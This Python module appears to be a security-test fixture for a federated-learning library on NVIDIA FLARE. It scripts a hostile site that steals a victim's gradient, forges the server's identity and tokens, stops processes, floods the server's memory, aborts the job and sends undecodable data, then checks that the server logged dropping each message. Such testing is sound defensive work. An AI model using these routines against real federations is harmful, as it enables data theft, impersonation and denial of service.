"""A site's client.py that attacks: it wants another site's gradient, and processes of others and the job to end.

`from hostile_site import WEIGHT, problem` is all that such a client.py needs. What came of the attacks is written to
ATTACKS in the site's folder. Whoever runs a site can run this: it uses FLARE as FLARE is, and changes what its own
process sends. On a busy machine a call may be given up before its message has left, so each attack is made again until
it succeeds or the server has written down that it dropped its message: server and site are on one machine here.
"""

import gc
import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from nvflare.apis.event_type import EventType
from nvflare.apis.fl_constant import AdminCommandNames, FedEventHeader, ReservedKey, ServerCommandNames
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.fuel.f3.cellnet.defs import CellChannel, Encoding, MessageHeaderKey
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import StreamHeaderKey
from nvflare.private.defs import CellMessageHeaderKeys, new_cell_message
from nvflare.widgets.fed_event import FED_EVENT_TOPIC

import fedlin
from fedlin.audit import TRAIL
from fedlin.deploy.settings import read_settings
from fedlin.engines.federation import wire
from fedlin.engines.federation.handshake import Handshake
from fedlin.engines.federation.wire import Kind
from fedlin.transports.flare_job import JobPlace
from fedlin.transports.flare_messages import ANSWER, CHANNEL, Messenger, Sealed

VICTIM = "north"
NUMBER = 1  # the hostile site's own data are those that the template would draw for it
ATTACKS = "attacks.json"
WAIT = 2.0  # seconds an attack waits for an answer
FLOOD = 400 << 20  # bytes
LIMIT = 60.0  # seconds in which a message that an attack has sent is seen by the server
WEIGHT = 100.0
_TOKENS = (CellMessageHeaderKeys.CLIENT_NAME, CellMessageHeaderKeys.TOKEN, CellMessageHeaderKeys.TOKEN_SIGNATURE)


def problem() -> fedlin.problems.Problem:
    """Its own data, after all attacks."""
    place = next(thing for thing in gc.get_objects() if isinstance(thing, JobPlace))
    core = place.cell.core_cell
    attacks: dict[str, Callable[[], Any]] = {
        "call": lambda: steal_gradient(place),
        "call in the server's name": lambda: steal_gradient(place, forged=True),
        "end the victim": lambda: stop(core, VICTIM),
        "end the server": lambda: stop(core, "server"),
        "fill the server's memory": lambda: flood(place.cell, place.job),
        "ask who takes part": lambda: ask_who_takes_part(core, place.job),
        "end the job": lambda: end_job(core, place.job),
        "report a fatal error": lambda: report_fatal_error(core, place),
        "send what cannot be decoded": lambda: send_garbage(place.cell, place.job),
    }
    trail = place.kit.parents[1] / "server" / TRAIL
    found = {name: repeated(attack, dropped(place.job)[name], trail) for name, attack in attacks.items()}
    (place.kit / ATTACKS).write_text(json.dumps(found))
    rng = np.random.default_rng(NUMBER)
    features = rng.normal(size=(100, 20))
    return fedlin.problems.regression([features], [features @ rng.normal(size=20) + 0.1 * rng.normal(size=100)])


def dropped(job: str) -> dict[str, str]:
    """The reason that the server has for dropping the message of each attack."""
    return {
        "call": f"it is for {VICTIM}.{job}, and",
        "call in the server's name": f"it is for {VICTIM}.{job} in the name of server.{job}, and",
        "end the victim": f"it is for {VICTIM} in the name of server.{job}, and",
        "end the server": "it is _net_manager:stop_cell for server, which",
        "fill the server's memory": "it is longer than",
        "ask who takes part": "it is server_parent_listener:get_clients for server, which",
        "end the job": f"it is server_command:abort for server.{job}, which",
        "report a fatal error": f"it is aux_communication:fed.event for server.{job}, which",
        "send what cannot be decoded": f"it is server_command:submit_update for server.{job}, which",
    }


def repeated(attack: Callable[[], Any], reason: str, trail: Path) -> Any:
    """What came of an attack, made until it succeeds or the server's audit trail has the reason for its failure."""
    deadline = time.monotonic() + LIMIT
    while True:
        try:
            found = attack()
        except Exception as error:
            found = f"{type(error).__name__}: {error}"
        failed = isinstance(found, str) and ("TimeoutError" in found or found == "timeout")
        if not failed or time.monotonic() > deadline or (trail.exists() and reason in trail.read_text()):
            return found


def steal_gradient(place: JobPlace, *, forged: bool = False) -> list[float] | str:
    """The victim's gradient at a model of ones, under a run id of our own, in the server's name where it is forged."""
    settings = read_settings(Path(place.sent))
    handshake = Handshake(settings.algorithm, settings.dim or 0, np.dtype("float64"))
    run = handshake.fingerprint + b"evil"
    begin = wire.write_message(wire.Header(Kind.BEGIN, run))
    task = wire.Task(wire.identify(begin), 0, 0, 1, 0.1)
    work = wire.write_task(wire.Header(Kind.TASK, run, 0, 0, True), task, wire.pack(np.ones(handshake.dim)))
    if forged:
        in_the_servers_name(place.cell.core_cell, place.job)
    messenger = Messenger(place.cell, place.job)
    messenger.send(VICTIM, ANSWER, Sealed(begin, b"no code"), WAIT, "begin")
    header, rest = wire.read_message(messenger.send(VICTIM, ANSWER, Sealed(work, b"no code"), WAIT, "gradient").payload)
    if header.kind != Kind.UPLOAD:
        return header.kind.name
    gradient = wire.unpack(wire.read_reply(rest)[1], handshake.phase(True, 0).up).decode()
    return [float(entry) for entry in gradient]


def in_the_servers_name(cell: Any, job: str) -> None:
    """Send what goes to the victim as the server's: its name and the tokens that stand in every message of it."""
    seen: dict[str, str] = {}

    def keep_tokens(message: Message) -> None:
        if str(message.get_header(MessageHeaderKey.ORIGIN)).startswith("server"):
            seen.update({name: message.get_header(name) for name in _TOKENS if message.get_header(name)})

    def forge(message: Message) -> None:
        if str(message.get_header(MessageHeaderKey.DESTINATION)).startswith(VICTIM):
            message.set_header(MessageHeaderKey.ORIGIN, f"server.{job}")
            for name, value in seen.items():
                message.set_header(name, value)

    cell.add_incoming_filter("*", "*", keep_tokens)
    cell.add_outgoing_request_filter("*", "*", forge)


def flood(cell: Any, job: str) -> str:
    """Send the server's job far more than any answer has, as part of a reply that it waits for."""
    topic = f"{CHANNEL}:{ANSWER}"
    return taken(cell.send_blob(CellChannel.RETURN_ONLY, topic, f"server.{job}", Message(payload=bytes(FLOOD))))


def send_garbage(cell: Any, job: str) -> str:
    """Send the server's job a result that cannot be decoded, at which FLARE ends its process."""
    garbage = Message({StreamHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}, 10 * b"garbage")
    topic = ServerCommandNames.SUBMIT_UPDATE
    return taken(cell.send_blob(CellChannel.SERVER_COMMAND, topic, f"server.{job}", garbage, reliable=True))


def taken(stream: Any) -> str:
    """What the sender of a stream hears of it."""
    try:
        return f"sent {stream.result(WAIT)} bytes"
    except TimeoutError:
        return "timeout"


def ask_who_takes_part(cell: Any, job: str) -> str:
    """Ask the server's own process for the tokens of all sites, as its process of the job does."""
    request = new_cell_message({CellMessageHeaderKeys.JOB_ID: job}, {})
    return asked(cell, CellChannel.SERVER_PARENT_LISTENER, ServerCommandNames.GET_CLIENTS, "server", request)


def end_job(cell: Any, job: str) -> str:
    """End the job for all, as the server's own process does where FLARE's user asks for it."""
    request = new_cell_message({}, Shareable())
    return asked(cell, CellChannel.SERVER_COMMAND, AdminCommandNames.ABORT, f"server.{job}", request)


def report_fatal_error(cell: Any, place: JobPlace) -> str:
    """Tell the server's job of an error of this site at which FLARE ends the job for all."""
    context = FLContext()
    context.set_prop(ReservedKey.IDENTITY_NAME, place.name, private=False)
    event = Shareable()
    event.set_header(FedEventHeader.TIMESTAMP, time.time())
    event.set_header(FedEventHeader.EVENT_TYPE, EventType.FATAL_SYSTEM_ERROR)
    event.set_peer_context(context)
    event.set_peer_props(context.get_all_public_props())
    request = new_cell_message({}, event)
    return asked(cell, CellChannel.AUX_COMMUNICATION, FED_EVENT_TOPIC, f"server.{place.job}", request)


def stop(cell: Any, target: str) -> str:
    """Ask another process of FLARE to end, as FLARE's own tools would."""
    return asked(cell, "_net_manager", "stop_cell", target, Message())


def asked(cell: Any, channel: str, topic: str, target: str, request: Message) -> str:
    """What FLARE says came of a request."""
    reply = cell.send_request(channel, topic, target, request, timeout=WAIT)
    return str(reply.get_header(MessageHeaderKey.RETURN_CODE))
